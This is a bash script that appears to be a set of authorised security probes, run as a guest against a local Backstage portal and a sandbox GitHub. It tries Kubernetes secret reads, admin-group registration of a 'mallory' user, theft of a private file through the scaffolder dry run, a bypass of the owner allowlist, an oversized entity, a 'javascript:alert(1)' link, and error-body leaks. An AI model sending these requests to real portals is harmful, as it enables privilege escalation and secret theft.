#!/usr/bin/env bash
# The six probes of issue 7, run as the guest against a running portal, printing each answer's
# status and the start of its body. Usage:
#   BASE=http://localhost:7007 GITHUB=http://localhost:7010 scripts/probes/lockdown.sh
# GITHUB is the sandbox GitHub the portal's integration points at (token sandbox-token).
set -uo pipefail
BASE="${BASE:-http://localhost:7007}"
GITHUB="${GITHUB:-http://localhost:7010}"
RUN="probe$(date +%s)"

token() {
  curl -s -H 'x-requested-with: XMLHttpRequest' "$BASE/api/auth/guest/refresh" |
    jq -r .backstageIdentity.token
}
TOKEN="$(token)"

# call METHOD PATH [curl args...]: prints "METHOD PATH -> status: body (first 300 chars)"
call() {
  local method="$1" urlPath="$2"
  shift 2
  local body status
  body="$(curl -s -o - -w '\n%{http_code}' -X "$method" -H "authorization: Bearer $TOKEN" "$@" "$BASE$urlPath")"
  status="${body##*$'\n'}"
  body="${body%$'\n'*}"
  printf '%s %s -> %s (%s bytes): %s\n' "$method" "$urlPath" "$status" "${#body}" "$(printf '%s' "$body" | tr -d '\n' | cut -c1-300)"
}

# Commits a file to a sandbox repository through the contents API, for the location probes.
put_file() {
  local repo="$1" file="$2" tmp
  tmp="$(mktemp)"
  base64 -w0 >"$tmp.b64"
  jq -n --rawfile c "$tmp.b64" '{message:"probe",content:$c}' >"$tmp"
  curl -s -o /dev/null -X PUT -H 'authorization: token sandbox-token' \
    "$GITHUB/api/v3/repos/tidewater/$repo/contents/$file" --data-binary @"$tmp"
  rm -f "$tmp" "$tmp.b64"
}

echo "## 1. cluster secrets and writes through the Kubernetes proxy"
K8S=(-H 'Backstage-Kubernetes-Cluster: sandbox')
call GET /api/kubernetes/proxy/api/v1/secrets "${K8S[@]}"
call POST /api/kubernetes/proxy/api/v1/namespaces/default/configmaps "${K8S[@]}" \
  -H 'content-type: application/json' \
  -d "{\"apiVersion\":\"v1\",\"kind\":\"ConfigMap\",\"metadata\":{\"name\":\"$RUN\"}}"
call DELETE "/api/kubernetes/proxy/api/v1/namespaces/default/configmaps/$RUN" "${K8S[@]}"

echo "## 2. team membership by registration"
put_file orders-service "$RUN-team.yaml" <<<"apiVersion: backstage.io/v1alpha1
kind: Group
metadata: { name: team-payments-$RUN }
spec: { type: team, children: [], members: [user:default/ada.okafor] }
---
apiVersion: backstage.io/v1alpha1
kind: User
metadata: { name: mallory-$RUN }
spec: { memberOf: [platform-admins] }
---
apiVersion: backstage.io/v1alpha1
kind: Component
metadata: { name: payments-ledger-$RUN }
spec: { type: service, lifecycle: production, owner: group:default/team-payments-$RUN }"
call POST /api/catalog/locations -H 'content-type: application/json' \
  -d "{\"type\":\"url\",\"target\":\"$GITHUB/tidewater/orders-service/blob/main/$RUN-team.yaml\"}"
sleep "${PROBE_WAIT:-20}"
call GET "/api/catalog/entities/by-name/group/default/team-payments-$RUN"
call GET "/api/catalog/entities/by-name/user/default/mallory-$RUN"
TOKEN="$(token)"
echo "guest ownership after signing in again: $(curl -s -H "authorization: Bearer $TOKEN" "$BASE/api/auth/v1/userinfo" | jq -c .)"
call DELETE "/api/catalog/entities/by-uid/$(curl -s -H "authorization: Bearer $TOKEN" "$BASE/api/catalog/entities/by-name/component/default/payments-ledger-$RUN" | jq -r .metadata.uid)"

echo "## 3. a private repository through the scaffolder's dry run"
call POST /api/scaffolder/v2/dry-run -H 'content-type: application/json' -d "$(jq -n --arg gh "$GITHUB" '{
  template: { apiVersion: "scaffolder.backstage.io/v1beta3", kind: "Template",
    metadata: { name: "probe" },
    spec: { type: "service", parameters: [], steps: [{ id: "fetch", action: "fetch:plain:file",
      input: { url: ($gh + "/tidewater/platform-infrastructure/blob/main/README.md"), targetPath: "stolen.md" } }] } },
  values: {}, secrets: {}, directoryContents: [] }')"

echo "stolen file in the dry run's output: $(curl -s -X POST -H "authorization: Bearer $TOKEN" -H 'content-type: application/json' "$BASE/api/scaffolder/v2/dry-run" -d "$(jq -n --arg gh "$GITHUB" '{
  template: { apiVersion: "scaffolder.backstage.io/v1beta3", kind: "Template", metadata: { name: "probe" },
    spec: { type: "service", parameters: [], steps: [{ id: "fetch", action: "fetch:plain:file",
      input: { url: ($gh + "/tidewater/platform-infrastructure/blob/main/README.md"), targetPath: "stolen.md" } }] } },
  values: {}, secrets: {}, directoryContents: [] }')" | jq -r '[.directoryContents[]? | .path + ": " + (.base64Content | @base64d | .[0:80])] | join(" | ")')"

echo "## 4. the golden path with a repository owner outside allowedOwners"
HOST="${GITHUB#http://}"
call POST /api/scaffolder/v2/tasks -H 'content-type: application/json' -d "$(jq -n --arg host "$HOST" --arg name "svc-$RUN" '{
  templateRef: "template:default/service-nodejs",
  values: { name: $name, description: "Probe", owner: "group:default/team-checkout",
    system: "system:default/storefront", lifecycle: "experimental", exposesApi: false, needsDatabase: false,
    repoUrl: ($host + "?owner=ada-okafor&repo=" + $name) } }')"
TASK="$(curl -s -H "authorization: Bearer $TOKEN" "$BASE/api/scaffolder/v2/tasks?createdBy=user:default/ada.okafor&limit=1&order=desc:created_at" | jq -r '.tasks[0].id')"
sleep "${PROBE_WAIT:-20}"
echo "task $TASK: $(curl -s -H "authorization: Bearer $TOKEN" "$BASE/api/scaffolder/v2/tasks/$TASK" | jq -c '{status}')"
echo "last event: $(curl -s -H "authorization: Bearer $TOKEN" "$BASE/api/scaffolder/v2/tasks/$TASK/events" | jq -c '[.[] | select(.type=="completion")] | last | .body | {message, error: (.error // null | if . then {name, message, stack: (.stack // "" | .[0:200])} else null end)}')"
for owner in ada-okafor octocat tidewater; do
  echo "GitHub repository $owner/svc-$RUN: $(curl -s -o /dev/null -w '%{http_code}' -H 'authorization: token sandbox-token' "$GITHUB/api/v3/repos/$owner/svc-$RUN")"
done

echo "## 5. unbounded and unsafe entity content"
{
  printf 'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: huge-%s\n  description: ' "$RUN"
  head -c 10000000 /dev/zero | tr '\0' x
  printf '\nspec: { type: service, lifecycle: production, owner: group:default/team-checkout }\n---\n'
  printf 'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: script-link-%s\n' "$RUN"
  printf "  links: [{ url: 'javascript:alert(1)', title: Click me }]\n"
  printf 'spec: { type: service, lifecycle: production, owner: group:default/team-checkout }\n'
} | put_file orders-service "$RUN-big.yaml"
call POST /api/catalog/locations -H 'content-type: application/json' \
  -d "{\"type\":\"url\",\"target\":\"$GITHUB/tidewater/orders-service/blob/main/$RUN-big.yaml\"}"
sleep "${PROBE_WAIT:-20}"
call GET "/api/catalog/entities/by-name/component/default/huge-$RUN"
call GET "/api/catalog/entities/by-name/component/default/script-link-$RUN"
call GET "/api/catalog/entities/by-query?limit=20&orderField=metadata.name,asc&filter=kind=component"

echo "## 6. server internals in error bodies"
call GET /api/catalog/entities/by-uid/does-not-exist
call POST /api/catalog/locations -H 'content-type: application/json' -d '{"type":"url","target":"not a url"}'
call GET /api/scaffolder/v2/tasks/not-a-task
